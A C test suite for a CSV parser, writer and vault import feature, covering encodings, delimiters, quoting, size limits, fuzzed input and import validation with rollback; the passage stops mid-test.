/* SPDX-License-Identifier: GPL-3.0-or-later */
/* test-csv.c — the CSV reader and writer, and import/export through a vault. */
#include <glib/gstdio.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "sp-csv-private.h"
#include "supolka-core.h"
#include "test-util.h"

/* ---- Helpers ---------------------------------------------------------------- */

static gboolean
count_row (SpCsvRow *row, gpointer user_data, GError **error)
{
  (void)row;
  (void)error;
  if (user_data)
    (*(guint *)user_data)++;
  return TRUE;
}

static GPtrArray *
parse_ok (const char *data, gsize len, const char *want_encoding, char want_delimiter)
{
  g_autoptr (GError) error = NULL;
  g_autofree char *encoding = NULL;
  char delimiter = 0;
  GPtrArray *rows = sp_csv_parse (data, len, &encoding, &delimiter, &error);

  g_assert_no_error (error);
  g_assert_nonnull (rows);
  if (want_encoding)
    g_assert_cmpstr (encoding, ==, want_encoding);
  if (want_delimiter)
    g_assert_cmpint (delimiter, ==, want_delimiter);
  return rows;
}

static GPtrArray *
parse_str (const char *text, const char *want_encoding, char want_delimiter)
{
  return parse_ok (text, strlen (text), want_encoding, want_delimiter);
}

/* Asserts that parsing fails with SP_CORE_ERROR_INVALID and a message
 * containing needle (e.g. "Line 3"). */
static void
parse_fails (const char *data, gsize len, const char *needle)
{
  g_autoptr (GError) error = NULL;
  g_autofree char *encoding = NULL;
  char delimiter = 0;
  g_autoptr (GPtrArray) rows = sp_csv_parse (data, len, &encoding, &delimiter, &error);

  g_assert_null (rows);
  g_assert_error (error, SP_CORE_ERROR, SP_CORE_ERROR_INVALID);
  g_assert_nonnull (error->message);
  if (needle && strstr (error->message, needle) == NULL)
    g_error ("error \"%s\" does not contain \"%s\"", error->message, needle);
}

static SpCsvRow *
row_at (GPtrArray *rows, guint i)
{
  g_assert_cmpuint (i, <, rows->len);
  return g_ptr_array_index (rows, i);
}

static const char *
cell_at (GPtrArray *rows, guint r, guint c)
{
  SpCsvRow *row = row_at (rows, r);

  g_assert_cmpuint (c, <, row->cells->len);
  return g_ptr_array_index (row->cells, c);
}

static void
assert_row (GPtrArray *rows, guint r, guint line, ...)
{
  SpCsvRow *row = row_at (rows, r);
  const char *want;
  guint c = 0;
  va_list ap;

  g_assert_cmpuint (row->line, ==, line);
  va_start (ap, line);
  while ((want = va_arg (ap, const char *)) != NULL)
    {
      g_assert_cmpuint (c, <, row->cells->len);
      g_assert_cmpstr (g_ptr_array_index (row->cells, c), ==, want);
      c++;
    }
  va_end (ap);
  g_assert_cmpuint (row->cells->len, ==, c);
}

/* ---- Parser ----------------------------------------------------------------- */

static void
test_parse_utf8_bom (void)
{
  const char *with_bom = "\xEF\xBB\xBFname,region\r\nВясна,minsk_city\r\n";
  const char *without = "name,region\nВясна,minsk_city\n";
  g_autoptr (GPtrArray) a = parse_str (with_bom, "UTF-8", ',');
  g_autoptr (GPtrArray) b = parse_str (without, "UTF-8", ',');

  g_assert_cmpuint (a->len, ==, 2);
  assert_row (a, 0, 1, "name", "region", NULL);
  assert_row (a, 1, 2, "Вясна", "minsk_city", NULL);
  g_assert_cmpuint (b->len, ==, 2);
  assert_row (b, 0, 1, "name", "region", NULL);
  assert_row (b, 1, 2, "Вясна", "minsk_city", NULL);

  /* Marked as UTF-8 but is not: a clear error naming the line. */
  parse_fails ("\xEF\xBB\xBF"
               "a\nb\n\xC3\x28\n",
               10, "Line 3");
}

static void
test_parse_cp1251 (void)
{
  /* "Назва;Статус" / "Вясна;member" in Windows-1251. */
  const char *data = "\xCD\xE0\xE7\xE2\xE0;\xD1\xF2\xE0\xF2\xF3\xF1\r\n"
                     "\xC2\xFF\xF1\xED\xE0;member\r\n";
  g_autoptr (GPtrArray) rows = parse_str (data, "WINDOWS-1251", ';');

  g_assert_cmpuint (rows->len, ==, 2);
  assert_row (rows, 0, 1, "Назва", "Статус", NULL);
  assert_row (rows, 1, 2, "Вясна", "member", NULL);

  /* 0x98 is the one byte Windows-1251 leaves undefined. */
  parse_fails ("a,b\r\nc,\x98\r\n", strlen ("a,b\r\nc,\x98\r\n"), "Line 2");
}

static char *
to_utf16 (const char *utf8, gboolean big_endian, gsize *len)
{
  g_autoptr (GError) error = NULL;
  gsize written = 0;
  g_autofree char *conv
      = g_convert (utf8, -1, big_endian ? "UTF-16BE" : "UTF-16LE", "UTF-8", NULL, &written, &error);
  char *out;

  g_assert_no_error (error);
  out = g_malloc (written + 2);
  out[0] = big_endian ? (char)0xFE : (char)0xFF;
  out[1] = big_endian ? (char)0xFF : (char)0xFE;
  memcpy (out + 2, conv, written);
  *len = written + 2;
  return out;
}

static void
test_parse_utf16 (void)
{
  const char *text = "name\tregion\r\n\"Вясна, Мінск\"\tminsk_city\r\nЛюдзі\tbrest\r\n";
  gsize len = 0;
  g_autofree char *le = to_utf16 (text, FALSE, &len);
  g_autoptr (GPtrArray) a = parse_ok (le, len, "UTF-16", '\t');
  g_autofree char *be = NULL;
  g_autoptr (GPtrArray) b = NULL;

  g_assert_cmpuint (a->len, ==, 3);
  assert_row (a, 0, 1, "name", "region", NULL);
  assert_row (a, 1, 2, "Вясна, Мінск", "minsk_city", NULL);
  assert_row (a, 2, 3, "Людзі", "brest", NULL);

  be = to_utf16 (text, TRUE, &len);
  b = parse_ok (be, len, "UTF-16", '\t');
  g_assert_cmpuint (b->len, ==, 3);
  assert_row (b, 1, 2, "Вясна, Мінск", "minsk_city", NULL);

  /* An odd number of bytes is not UTF-16. */
  parse_fails (le, len - 1, "UTF-16");
  /* A lone surrogate neither. */
  parse_fails ("\xFF\xFE"
               "a\0\x00\xD8"
               "b\0",
               8, "UTF-16");
}

static void
test_parse_delimiters (void)
{
  g_autoptr (GPtrArray) comma = parse_str ("a,b,c\n1,2,3\n", NULL, ',');
  g_autoptr (GPtrArray) semi = parse_str ("a;b;c\n1;2,5;3\n", NULL, ';');
  g_autoptr (GPtrArray) tab = parse_str ("a\tb\tc\n1\t2\t3\n", NULL, '\t');
  /* Delimiters inside quotes do not count: two semicolons beat four commas. */
  g_autoptr (GPtrArray) quoted = parse_str ("\"a,b,c,d,e\";x;y\n1;2;3\n", NULL, ';');
  /* Nothing to count: comma. */
  g_autoptr (GPtrArray) single = parse_str ("name\nx\n", NULL, ',');
  /* Excel's "sep=" line. */
  g_autoptr (GPtrArray) sep = parse_str ("sep=;\r\na;b,c\r\n1;2\r\n", NULL, ';');

  assert_row (comma, 1, 2, "1", "2", "3", NULL);
  assert_row (semi, 1, 2, "1", "2,5", "3", NULL);
  assert_row (tab, 1, 2, "1", "2", "3", NULL);
  assert_row (quoted, 0, 1, "a,b,c,d,e", "x", "y", NULL);
  assert_row (single, 1, 2, "x", NULL);
  g_assert_cmpuint (sep->len, ==, 2);
  assert_row (sep, 0, 2, "a", "b,c", NULL);
  assert_row (sep, 1, 3, "1", "2", NULL);
}

static void
test_parse_quotes (void)
{
  const char *text = "name,notes\r\n"
                     "\"Adukacyja, Belarus\",\"She said \"\"hi\"\"; then left\"\r\n"
                     "\"\",\"\"\"\"\r\n"
                     "  spaced  ,\"  kept  \"\r\n"
                     "a\"b,c\r\n";
  g_autoptr (GPtrArray) rows = parse_str (text, "UTF-8", ',');

  g_assert_cmpuint (rows->len, ==, 5);
  assert_row (rows, 1, 2, "Adukacyja, Belarus", "She said \"hi\"; then left", NULL);
  assert_row (rows, 2, 3, "", "\"", NULL);
  assert_row (rows, 3, 4, "spaced", "  kept  ", NULL);
  /* A stray quote inside an unquoted field is kept as it is. */
  assert_row (rows, 4, 5, "a\"b", "c", NULL);
}

static void
test_parse_newlines (void)
{
  const char *crlf = "id,notes\r\n"       /* 1 */
                     "1,\"first\r\n"      /* 2 */
                     "second\"\r\n"       /* 3 */
                     "2,\"a\n"            /* 4 */
                     "b\n"                /* 5 */
                     "c\"\r\n"            /* 6 */
                     "\r\n"               /* 7: blank */
                     "\r\n"               /* 8: blank */
                     "3,plain\r\n"        /* 9 */
                     "4,\"\r\n\r\n\"\r\n" /* 10-12 */
                     "5,last";            /* 13, no line end */
  const char *lf = "a,b\n\"x\ny\",1\n\n2,\"p\nq\nr\"\n3,4\n";
  const char *cr = "a,b\r1,2\r3,4\r";
  g_autoptr (GPtrArray) rows = parse_str (crlf, "UTF-8", ',');
  g_autoptr (GPtrArray) lf_rows = parse_str (lf, "UTF-8", ',');
  g_autoptr (GPtrArray) cr_rows = parse_str (cr, "UTF-8", ',');

  g_assert_cmpuint (rows->len, ==, 6);
  assert_row (rows, 0, 1, "id", "notes", NULL);
  assert_row (rows, 1, 2, "1", "first\r\nsecond", NULL);
  assert_row (rows, 2, 4, "2", "a\nb\nc", NULL);
  assert_row (rows, 3, 9, "3", "plain", NULL);
  assert_row (rows, 4, 10, "4", "\r\n\r\n", NULL);
  assert_row (rows, 5, 13, "5", "last", NULL);

  g_assert_cmpuint (lf_rows->len, ==, 4);
  assert_row (lf_rows, 1, 2, "x\ny", "1", NULL);
  assert_row (lf_rows, 2, 5, "2", "p\nq\nr", NULL);
  assert_row (lf_rows, 3, 8, "3", "4", NULL);

  g_assert_cmpuint (cr_rows->len, ==, 3);
  assert_row (cr_rows, 2, 3, "3", "4", NULL);
}

static void
test_parse_ragged (void)
{
  g_autoptr (GPtrArray) rows = parse_str ("a,b,c\n1\n1,2,3,4,5\n,,\n1,2\n", "UTF-8", ',');

  g_assert_cmpuint (rows->len, ==, 5);
  assert_row (rows, 1, 2, "1", NULL);
  assert_row (rows, 2, 3, "1", "2", "3", "4", "5", NULL);
  assert_row (rows, 3, 4, "", "", "", NULL);
  assert_row (rows, 4, 5, "1", "2", NULL);
}

static void
test_parse_unterminated (void)
{
  const char *text = "a,b\n1,\"open\n2,3\n4,5\n";

  parse_fails (text, strlen (text), "Line 2");
  parse_fails ("a,b\n\"x", 6, "Line 2");
  parse_fails ("\"", 1, "Line 1");
  /* Closed at the very end is fine. */
  {
    g_autoptr (GPtrArray) rows = parse_str ("a,b\n1,\"x\ny\"", "UTF-8", ',');
    assert_row (rows, 1, 2, "1", "x\ny", NULL);
  }
}

static void
test_parse_nul (void)
{
  const char data[] = "a,b\r\n1,2\r\n3,\0\r\n";
  gsize len = 0;
  g_autofree char *utf16 = to_utf16 ("a,b\r\nc,d\r\n", FALSE, &len);

  parse_fails (data, sizeof data - 1, "Line 3");
  parse_fails ("\0", 1, "Line 1");
  /* U+0000 in UTF-16. */
  utf16[len - 2] = '\0';
  utf16[len - 1] = '\0';
  parse_fails (utf16, len, "Line 3");
}

static void
test_parse_limits (void)
{
  g_autoptr (GString) wide = g_string_new (NULL);
  g_autoptr (GString) ok_wide = g_string_new (NULL);
  g_autoptr (GString) big = g_string_new ("name,notes\r\nx,\"");
  g_autoptr (GString) fits = g_string_new ("name,notes\r\nx,");
  g_autoptr (GString) bare = g_string_new ("name\r\n");
  g_autoptr (GPtrArray) rows = NULL;

  /* 257 columns in the header: refused. 256: fine. */
  for (guint i = 0; i < 257; i++)
    g_string_append_printf (wide, "%sc%u", i ? "," : "", i);
  g_string_append (wide, "\r\n1\r\n");
  parse_fails (wide->str, wide->len, "Line 1");
  for (guint i = 0; i < 256; i++)
    g_string_append_printf (ok_wide, "%sc%u", i ? "," : "", i);
  rows = parse_str (ok_wide->str, "UTF-8", ',');
  g_assert_cmpuint (row_at (rows, 0)->cells->len, ==, 256);
  g_clear_pointer (&rows, g_ptr_array_unref);

  /* A 65 KiB cell, quoted or bare: refused. Exactly 64 KiB: fine. */
  for (guint i = 0; i < 65 * 1024; i++)
    g_string_append_c (big, i % 100 == 99 ? '\n' : 'x');
  g_string_append (big, "\"\r\n");
  parse_fails (big->str, big->len, "Line 2");
  for (guint i = 0; i < 65 * 1024; i++)
    g_string_append_c (bare, 'y');
  parse_fails (bare->str, bare->len, "Line 2");
  for (guint i = 0; i < 64 * 1024; i++)
    g_string_append_c (fits, 'z');
  rows = parse_str (fits->str, "UTF-8", ',');
  g_assert_cmpuint (strlen (cell_at (rows, 1, 1)), ==, 64 * 1024);
  g_clear_pointer (&rows, g_ptr_array_unref);

  /* More than 1 GiB: refused before anything is read (a sparse file, so
   * that the test writes nothing to speak of). */
  {
    g_autofree char *dir = sp_test_tmpdir ();
    g_autofree char *path = g_build_filename (dir, "huge.csv", NULL);
    g_autoptr (GFile) file = g_file_new_for_path (path);
    g_autoptr (GFileInputStream) in = NULL;
    g_autoptr (GError) error = NULL;
    SpCsvReadInfo info = { .encoding = SP_CSV_ENCODING_AUTO };
    FILE *f = fopen (path, "w");

    g_assert_nonnull (f);
    g_assert_cmpint (ftruncate (fileno (f), (off_t)SP_CSV_MAX_BYTES + 1), ==, 0);
    fclose (f);
    in = g_file_read (file, NULL, &error);
    g_assert_no_error (error);
    g_assert_false (sp_csv_read (G_INPUT_STREAM (in), &info, count_row, NULL, &error));
    g_assert_error (error, SP_CORE_ERROR, SP_CORE_ERROR_INVALID);
    g_assert_nonnull (strstr (error->message, "1024 MiB"));
    g_unlink (path);
    g_rmdir (dir);
  }
}

static void
test_parse_too_many_rows (void)
{
  g_autoptr (GString) text = g_string_new ("n\n");
  g_autoptr (GPtrArray) rows = NULL;

  for (guint i = 0; i < SP_CSV_MAX_ROWS; i++)
    g_string_append (text, "1\n");
  rows = parse_ok (text->str, text->len, "UTF-8", ',');
  g_assert_cmpuint (rows->len, ==, SP_CSV_MAX_ROWS + 1);
  g_string_append (text, "1\n");
  parse_fails (text->str, text->len, "rows");
}

static void
test_parse_empty (void)
{
  g_autoptr (GPtrArray) empty = parse_ok ("", 0, "UTF-8", ',');
  g_autoptr (GPtrArray) bom = parse_str ("\xEF\xBB\xBF", "UTF-8", ',');
  g_autoptr (GPtrArray) blank = parse_str ("\r\n\r\n  \n", "UTF-8", ',');
  g_autoptr (GPtrArray) header = parse_str ("name;region;status\r\n", "UTF-8", ';');
  g_autoptr (GPtrArray) header_no_nl = parse_str ("name", "UTF-8", ',');

  g_assert_cmpuint (empty->len, ==, 0);
  g_assert_cmpuint (bom->len, ==, 0);
  g_assert_cmpuint (blank->len, ==, 0);
  g_assert_cmpuint (header->len, ==, 1);
  assert_row (header, 0, 1, "name", "region", "status", NULL);
  g_assert_cmpuint (header_no_nl->len, ==, 1);
  assert_row (header_no_nl, 0, 1, "name", NULL);
}

/* Random bytes from an alphabet rich in CSV syntax: never a crash. */
static void
test_parse_junk (void)
{
  static const char alphabet[] = "\",;\t\r\n a\xD0\xB0\xFF\xFE\xEF\xBB\xBF";
  g_autoptr (GRand) rand = g_rand_new_with_seed (20240517);

  for (guint iter = 0; iter < 3000; iter++)
    {
      gsize len = (gsize)g_rand_int_range (rand, 0, 300);
      g_autofree char *buf = g_malloc (len + 1);
      g_autoptr (GError) error = NULL;
      g_autofree char *encoding = NULL;
      g_autoptr (GPtrArray) rows = NULL;
      char delimiter = 0;

      for (gsize i = 0; i < len; i++)
        buf[i] = iter % 3 == 0 ? (char)g_rand_int_range (rand, 0, 256)
                               : alphabet[g_rand_int_range (rand, 0, sizeof alphabet)];
      rows = sp_csv_parse (buf, len, &encoding, &delimiter, &error);
      if (rows == NULL)
        {
          g_assert_error (error, SP_CORE_ERROR, SP_CORE_ERROR_INVALID);
          continue;
        }
      g_assert_no_error (error);
      for (guint r = 0; r < rows->len; r++)
        {
          SpCsvRow *row = g_ptr_array_index (rows, r);
          g_assert_cmpuint (row->line, >=, 1);
          g_assert_cmpuint (row->cells->len, >=, 1);
          g_assert_cmpuint (row->cells->len, <=, SP_CSV_MAX_COLUMNS);
          for (guint c = 0; c < row->cells->len; c++)
            g_assert_true (g_utf8_validate (g_ptr_array_index (row->cells, c), -1, NULL));
          if (r > 0)
            g_assert_cmpuint (row->line, >, row_at (rows, r - 1)->line);
        }
    }
}

static void
test_write_row (void)
{
  const char *cells[] = { "plain", "a,b", "say \"hi\"", "", NULL, "two\r\nlines", "Мінск; 1" };
  g_autoptr (GString) out = g_string_new (NULL);
  g_autoptr (GString) semi = g_string_new (NULL);
  g_autoptr (GPtrArray) rows = NULL;
  g_autoptr (GPtrArray) semi_rows = NULL;

  sp_csv_append_row (out, cells, G_N_ELEMENTS (cells), ',');
  g_assert_cmpstr (
      out->str, ==,
      "\"plain\",\"a,b\",\"say \"\"hi\"\"\",\"\",\"\",\"two\r\nlines\",\"Мінск; 1\"\r\n");
  sp_csv_append_row (out, cells, 3, ',');
  rows = parse_ok (out->str, out->len, "UTF-8", ',');
  g_assert_cmpuint (rows->len, ==, 2);
  assert_row (rows, 0, 1, "plain", "a,b", "say \"hi\"", "", "", "two\r\nlines", "Мінск; 1", NULL);
  assert_row (rows, 1, 3, "plain", "a,b", "say \"hi\"", NULL);

  sp_csv_append_row (semi, cells + 1, 2, ';');
  g_assert_cmpstr (semi->str, ==, "\"a,b\";\"say \"\"hi\"\"\"\r\n");
  semi_rows = parse_ok (semi->str, semi->len, "UTF-8", ';');
  assert_row (semi_rows, 0, 1, "a,b", "say \"hi\"", NULL);
}

/* ---- Import and export --------------------------------------------------------- */

typedef struct
{
  SpVault *vault;
  char *dir;
} Fixture;

static void
fixture_open (Fixture *f)
{
  f->vault = sp_test_vault_new (&f->dir);
  g_assert_nonnull (f->vault);
}

static void
fixture_close (Fixture *f)
{
  g_clear_pointer (&f->vault, sp_vault_close);
  if (f->dir)
    sp_test_rmtree (f->dir);
  g_clear_pointer (&f->dir, g_free);
}

static gint64
count (SpVault *vault, const char *kind)
{
  g_autoptr (GError) error = NULL;
  gint64 n = sp_vault_count (vault, kind, NULL, &error);

  g_assert_no_error (error);
  return n;
}

static const SpImportError *
find_error (SpImportReport *report, guint line, const char *field)
{
  for (guint i = 0; i < report->errors->len; i++)
    {
      const SpImportError *e = g_ptr_array_index (report->errors, i);
      if (e->line == line && g_strcmp0 (e->field, field) == 0)
        return e;
    }
  return NULL;
}

static void
dump_report (SpImportReport *report)
{
  for (guint i = 0; report && i < report->errors->len; i++)
    {
      const SpImportError *e = g_ptr_array_index (report->errors, i);
      g_test_message ("line %u, %s = \"%s\": %s", e->line, e->field ? e->field : "(row)",
                      e->value ? e->value : "", e->message);
    }
}

static gboolean
import (SpVault *vault, const char *kind, const char *text, gboolean dry_run,
        SpImportReport **report, GError **error)
{
  gboolean ok = sp_vault_import_csv (vault, kind, text, strlen (text), dry_run, report, error);

  dump_report (*report);
  return ok;
}

static const char *good_orgs
    = "Name;Region;Status;Themes;Member_since;Notes\r\n"
      "Вясна;minsk_city;member;human rights, legal aid;2019;\"Founded 1996; \"\"old\"\"\"\r\n"
      "Green Way;brest;candidate;ecology;2021-03;\r\n"
      ";;;;;\r\n"
      "Партнёрства;gomel;partner;;17.05.2020;\"two\r\nlines\"\r\n";

static void
test_import_good (void)
{
  Fixture f = { 0 };
  g_autoptr (SpImportReport) report = NULL;
  g_autoptr (GError) error = NULL;
  g_autoptr (GPtrArray) list = NULL;
  gboolean ok;

  fixture_open (&f);
  ok = import (f.vault, "org", good_orgs, FALSE, &report, &error);
  g_assert_no_error (error);
  g_assert_true (ok);
  g_assert_nonnull (report);
  g_assert_cmpuint (report->rows, ==, 3);
  g_assert_cmpuint (report->imported, ==, 3);
  g_assert_cmpuint (report->errors->len, ==, 0);
  g_assert_cmpstr (report->encoding, ==, "UTF-8");
  g_assert_cmpint (report->delimiter, ==, ';');
  g_assert_cmpint (count (f.vault, "org"), ==, 3);

  list = sp_vault_list (f.vault, "org", NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (list->len, ==, 3);
  for (guint i = 0; i < list->len; i++)
    {
      SpRecord *r = g_ptr_array_index (list, i);
      const char *name = sp_record_get (r, "name");

      if (g_strcmp0 (name, "Вясна") == 0)
        {
          g_assert_cmpstr (sp_record_get (r, "region"), ==, "minsk_city");
          g_assert_cmpstr (sp_record_get (r, "notes"), ==, "Founded 1996; \"old\"");
          g_assert_cmpstr (sp_record_get (r, "member_since"), ==, "2019");
        }
      else if (g_strcmp0 (name, "Партнёрства") == 0)
        {
          g_assert_cmpstr (sp_record_get (r, "member_since"), ==, "2020-05-17");
          g_assert_cmpstr (sp_record_get (r, "notes"), ==, "two\r\nlines");
        }
      else
        {
          g_assert_cmpstr (name, ==, "Green Way");
          g_assert_null (sp_record_get (r, "notes"));
        }
    }
  fixture_close (&f);
}

static void
test_import_cp1251 (void)
{
  /* Excel in a Russian locale: Windows-1251 and semicolons.
   * "name;locality" / "Вясна;Мінск" ("і" is 0xB3) */
  const char *data = "name;locality\r\n\xC2\xFF\xF1\xED\xE0;\xCC\xB3\xED\xF1\xEA\r\n";
  Fixture f = { 0 };
  g_autoptr (SpImportReport) report = NULL;
  g_autoptr (GError) error = NULL;
  g_autoptr (GPtrArray) list = NULL;

  fixture_open (&f);
  g_assert_true (sp_vault_import_csv (f.vault, "org", data, strlen (data), FALSE, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpstr (report->encoding, ==, "WINDOWS-1251");
  g_assert_cmpint (report->delimiter, ==, ';');
  list = sp_vault_list (f.vault, "org", NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (list->len, ==, 1);
  g_assert_cmpstr (sp_record_get (g_ptr_array_index (list, 0), "name"), ==, "Вясна");
  g_assert_cmpstr (sp_record_get (g_ptr_array_index (list, 0), "locality"), ==, "Мінск");
  fixture_close (&f);
}

/* Five rows, two bad (one of them twice); a quoted newline shifts the lines. */
static const char *bad_orgs = "name,status,member_since,email,notes\r\n"       /* 1 */
                              "One,member,2020,one@example.org,\"a\r\nb\"\r\n" /* 2-3 */
                              "Two,bogus,2020,,\r\n"                           /* 4 */
                              "Three,candidate,,,\r\n"                         /* 5 */
                              "Four,member,2024-13-45,not-an-email,\r\n"       /* 6 */
                              "Five,former,,,\r\n";                            /* 7 */

static void
check_bad_report (SpImportReport *report)
{
  const SpImportError *e;

  g_assert_cmpuint (report->rows, ==, 5);
  g_assert_cmpuint (report->imported, ==, 0);
  g_assert_cmpuint (report->errors->len, ==, 3);
  e = find_error (report, 4, "status");
  g_assert_nonnull (e);
  g_assert_cmpstr (e->value, ==, "bogus");
  g_assert_nonnull (strstr (e->message, "bogus"));
  e = find_error (report, 6, "member_since");
  g_assert_nonnull (e);
  g_assert_cmpstr (e->value, ==, "2024-13-45");
  e = find_error (report, 6, "email");
  g_assert_nonnull (e);
  g_assert_cmpstr (e->value, ==, "not-an-email");
}

static void
test_import_bad_rows (void)
{
  Fixture f = { 0 };
  g_autoptr (SpImportReport) report = NULL;
  g_autoptr (GError) error = NULL;

  fixture_open (&f);
  g_assert_false (import (f.vault, "org", bad_orgs, FALSE, &report, &error));
  g_assert_error (error, SP_CORE_ERROR, SP_CORE_ERROR_INVALID);
  g_assert_nonnull (strstr (error->message, "2"));
  check_bad_report (report);
  g_assert_cmpint (count (f.vault, "org"), ==, 0);
  fixture_close (&f);
}

static void
test_import_required (void)
{
  const char *text = "name,name_alt,region\r\n"
                     "Good,,brest\r\n"
                     ",Alt,gomel\r\n"
                     "  ,Alt2,\r\n";
  Fixture f = { 0 };
  g_autoptr (SpImportReport) report = NULL;
  g_autoptr (GError) error = NULL;
  const SpImportError *e;

  fixture_open (&f);
  g_assert_false (import (f.vault, "org", text, FALSE, &report, &error));
  g_assert_error (error, SP_CORE_ERROR, SP_CORE_ERROR_INVALID);
  g_assert_cmpuint (report->errors->len, ==, 2);
  e = find_error (report, 3, "name");
  g_assert_nonnull (e);
  g_assert_nonnull (strstr (e->message, "name"));
  g_assert_nonnull (find_error (report, 4, "name"));
  g_assert_cmpint (count (f.vault, "org"), ==, 0);
  g_clear_pointer (&report, sp_import_report_free);
  g_clear_error (&error);

  /* Without a name column at all, every row misses it. */
  g_assert_false (import (f.vault, "org", "region\nbrest\ngomel\n", FALSE, &report, &error));
  g_assert_error (error, SP_CORE_ERROR, SP_CORE_ERROR_INVALID);
  g_assert_nonnull (find_error (report, 2, "name"));
  g_assert_nonnull (find_error (report, 3, "name"));
  fixture_close (&f);
}

static void
test_import_dry_run (void)
{
  Fixture f = { 0 };
  g_autoptr (SpImportReport) report = NULL;
  g_autoptr (GError) error = NULL;

  fixture_open (&f);
  g_assert_true (import (f.vault, "org", good_orgs, TRUE, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (report->rows, ==, 3);
  g_assert_cmpuint (report->imported, ==, 3); /* would be imported */
  g_assert_cmpuint (report->errors->len, ==, 0);
  g_assert_cmpint (count (f.vault, "org"), ==, 0);
  g_clear_pointer (&report, sp_import_report_free);

  g_assert_false (import (f.vault, "org", bad_orgs, TRUE, &report, &error));
  g_assert_error (error, SP_CORE_ERROR, SP_CORE_ERROR_INVALID);
  check_bad_report (report);
  g_assert_cmpint (count (f.vault, "org"), ==, 0);

  /* The vault still takes writes afterwards: no transaction was left open. */
  g_clear_pointer (&report, sp_import_report_free);
  g_clear_error (&error);
  g_assert_true (import (f.vault, "org", good_orgs, FALSE, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpint (count (f.vault, "org"), ==, 3);
  fixture_close (&f);
}

static void
test_import_failed_keeps_data (void)
{
  Fixture f = { 0 };
  g_autoptr (SpImportReport) report = NULL;
  g_autoptr (GError) error = NULL;
  g_autoptr (SpRecord) rec = NULL;
  g_autofree char *a = NULL, *b = NULL, *c = NULL, *text = NULL;

  fixture_open (&f);
  a = sp_test_insert (f.vault, "org", "name", "Alpha", "region", "brest", NULL);
  b = sp_test_insert (f.vault, "org", "name", "Beta", NULL);
  c = sp_test_insert (f.vault, "org", "name", "Gamma", NULL);
  g_assert_cmpint (count (f.vault, "org"), ==, 3);

  /* Updates one, adds one, and has a bad row: nothing may change. */
  text = g_strdup_printf ("id,name,region\n"
                          "%s,Alpha renamed,\n"
                          ",New org,gomel\n"
                          ",Bad org,atlantis\n",
                          a);
  g_assert_false (import (f.vault, "org", text, FALSE, &report, &error));
  g_assert_error (error, SP_CORE_ERROR, SP_CORE_ERROR_INVALID);
  g_assert_nonnull (find_error (report, 4, "region"));
  g_clear_error (&error);
  g_assert_cmpint (count (f.vault, "org"), ==, 3);
  rec = sp_vault_get (f.vault, a, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (sp_record_get (rec, "name"), ==, "Alpha");
  g_assert_cmpstr (sp_record_get (rec, "region"), ==, "brest");
  g_clear_pointer (&rec, sp_record_unref);
  rec = sp_vault_get (f.vault, b, &error);
  g_assert_no_error (error);
  g_clear_pointer (&rec, sp_record_unref);
  rec = sp_vault_get (f.vault, c, &error);
  g_assert_no_error (error);
  fixture_close (&f);
}

static void
test_import_update (void)
{
  Fixture f = { 0 };
  g_autoptr (SpImportReport) report = NULL;
  g_autoptr (GError) error = NULL;
  g_autoptr (SpRecord) rec = NULL;
  g_autofree char *a = NULL, *gone = NULL, *text = NULL, *upper = NULL;
  const char *new_id = "0123456789abcdef0123456789abcdef";

  fixture_open (&f);
  a = sp_test_insert (f.vault, "org", "name", "Alpha", "region", "brest", "locality", "Pinsk",
                      NULL);
  gone = sp_test_insert (f.vault, "org", "name", "Deleted", NULL);
  g_assert_true (sp_vault_delete (f.vault, gone, &error));
  g_assert_no_error (error);
  upper = g_ascii_strup (a, -1);

  /* Upper-case id, an empty cell that clears, a given id for a new record,
   * and a deleted record brought back. */
  text = g_strdup_printf ("ID,Name,Region\n"
                          "%s,Alpha 2,\n"
                          "%s,Brand new,vitebsk\n"
                          "%s,Back again,mogilev\n",
                          upper, new_id, gone);
  g_assert_true (import (f.vault, "org", text, FALSE, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (report->imported, ==, 3);
  g_assert_cmpint (count (f.vault, "org"), ==, 3);

  rec = sp_vault_get (f.vault, a, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (sp_record_get (rec, "name"), ==, "Alpha 2");
  g_assert_null (sp_record_get (rec, "region"));
  g_assert_cmpstr (sp_record_get (rec, "locality"), ==, "Pinsk"); /* not in the file */
  g_clear_pointer (&rec, sp_record_unref);

  rec = sp_vault_get (f.vault, new_id, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (sp_record_get (rec, "name"), ==, "Brand new");
  g_assert_cmpstr (sp_record_get (rec, "region"), ==, "vitebsk");
  g_clear_pointer (&rec, sp_record_unref);

  rec = sp_vault_get (f.vault, gone, &error);
  g_assert_no_error (error);
  g_assert_false (sp_record_is_deleted (rec));
  g_assert_cmpstr (sp_record_get (rec, "name"), ==, "Back again");
  g_clear_pointer (&rec, sp_record_unref);
  g_clear_pointer (&report, sp_import_report_free);

  /* Bad ids: not hex, repeated, of another kind. */
  {
    g_autofree char *person = sp_test_insert (f.vault, "person", "full_name", "Ala", NULL);
    g_autofree char *bad = g_strdup_printf ("id,name\n"
                                            "xyz,One\n"
                                            "%s,Two\n"
                                            "%s,Three\n"
                                            "%s,Four\n",
                                            new_id, new_id, person);
    g_assert_false (import (f.vault, "org", bad, FALSE, &report, &error));
    g_assert_error (error, SP_CORE_ERROR, SP_CORE_ERROR_INVALID);
    g_assert_nonnull (find_error (report, 2, "id"));
    g_assert_null (find_error (report, 3, "id"));
    g_assert_nonnull (find_error (report, 4, "id"));
    g_assert_nonnull (find_error (report, 5, "id"));
  }
  fixture_close (&f);
}

static void
test_import_header_errors (void)
{
  Fixture f = { 0 };
  g_autoptr (SpImportReport) report = NULL;
  g_autoptr (GError) error = NULL;

  fixture_open (&f);
  g_assert_false (import (f.vault, "org", "name,colour\nA,red\n", FALSE, &report, &error));
  g_assert_error (error, SP_CORE_ERROR, SP_CORE_ERROR_INVALID);
  g_assert_cmpuint (report->errors->len, ==, 1);
  g_assert_nonnull (strstr (((SpImportError *)report->errors->pdata[0])->message, "colour"));
  g_assert_nonnull (find_error (report, 1, "colour"));
  g_clear_pointer (&report, sp_import_report_free);
  g_clear_error (&error);

  g_assert_false (import (f.vault, "org", " name ,NAME\nA,B\n", FALSE, &report, &error));
